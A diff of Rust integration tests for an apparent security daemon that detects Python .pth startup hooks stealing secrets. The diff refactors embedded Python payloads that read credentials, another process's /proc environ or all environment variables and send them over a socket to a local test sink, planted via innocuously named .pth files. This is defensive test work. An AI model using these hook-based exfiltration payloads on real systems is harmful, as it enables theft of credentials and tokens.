@@ -9,8 +9,8 @@ use std::time::Duration;
 use integration_tests::{
     Daemon, PYTHON, Sandbox, TcpSink, UdpSink, base64, can_run,
     payload::{
-        READ_CREDENTIALS, assert_exfil_alert, exfil_alert, preexisting_suspect_hooks, relevant,
-        spawning_pth_line, wait_marker,
+        READ_CREDENTIALS, assert_exfil_alert, exfil_alert, exfiltrate, preexisting_suspect_hooks,
+        relevant, send_and_record, spawning_pth_line, wait_marker,
     },
     real, run_bounded, wait_until,
 };
@@ -436,20 +436,7 @@ fn a_per_rule_mode_overrides_the_global_mode() {
     }
     let sb = Sandbox::new("rulemode");
     let sink = TcpSink::start();
-    let child = format!(
-        "{READ_CREDENTIALS}
-import socket
-try:
-    s = socket.create_connection(('127.0.0.1', {}), timeout=5)
-    s.sendall(blob)
-    r = 'sent'
-except OSError as e:
-    r = 'error %d' % e.errno
-with open(os.path.join(home, 'payload.done'), 'w') as f:
-    f.write(r)
-",
-        sink.port
-    );
+    let child = exfiltrate(sink.port);
     let pth = sb.pth("rm_init.pth", &spawning_pth_line(&child));
     let daemon = Daemon::start(
         "alert",
@@ -539,20 +526,7 @@ fn module_hook(name: &str, kind: &str, pythonpath: bool) {
             "import os
 if not os.environ.get('PTHW_CHILD'):
 {}",
-            indent(&format!(
-                "{READ_CREDENTIALS}
-import socket
-try:
-    s = socket.create_connection(('127.0.0.1', {}), timeout=5)
-    s.sendall(blob)
-    r = 'sent'
-except OSError as e:
-    r = 'error %d' % e.errno
-with open(os.path.join(home, 'payload.done'), 'w') as f:
-    f.write(r)
-",
-                sink.port
-            ))
+            indent(&exfiltrate(sink.port))
         ),
     )
     .expect("write module hook");
@@ -616,21 +590,13 @@ fn reading_another_process_environment_counts_as_a_credential_read() {
         .spawn()
         .expect("start the job");
     let child = format!(
-        "import os, socket
+        "import os
 home = os.path.expanduser('~')
 with open('/proc/{pid}/environ', 'rb') as f:
     blob = f.read()
-try:
-    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
-    s.sendall(blob)
-    r = 'sent'
-except OSError as e:
-    r = 'error %d' % e.errno
-with open(os.path.join(home, 'payload.done'), 'w') as f:
-    f.write(r)
-",
+{send}",
         pid = job.id(),
-        port = sink.port
+        send = send_and_record(sink.port)
     );
     sb.pth("env_probe.pth", &spawning_pth_line(&child));
     let daemon = Daemon::start("block", &[]);
@@ -780,19 +746,11 @@ fn a_hook_sending_environment_secrets_is_denied_and_the_main_program_is_not() {
     let legit = TcpSink::start();
     let token = format!("ghp_{}", sb.canary);
     let child = format!(
-        "import os, socket
+        "import os
 home = os.path.expanduser('~')
 blob = '\\n'.join('%s=%s' % kv for kv in os.environ.items()).encode()
-try:
-    s = socket.create_connection(('127.0.0.1', {port}), timeout=5)
-    s.sendall(blob)
-    r = 'sent'
-except OSError as e:
-    r = 'error %d' % e.errno
-with open(os.path.join(home, 'payload.done'), 'w') as f:
-    f.write(r)
-",
-        port = evil.port
+{send}",
+        send = send_and_record(evil.port)
     );
     sb.pth("ci_env_helper.pth", &spawning_pth_line(&child));
     let main = format!(
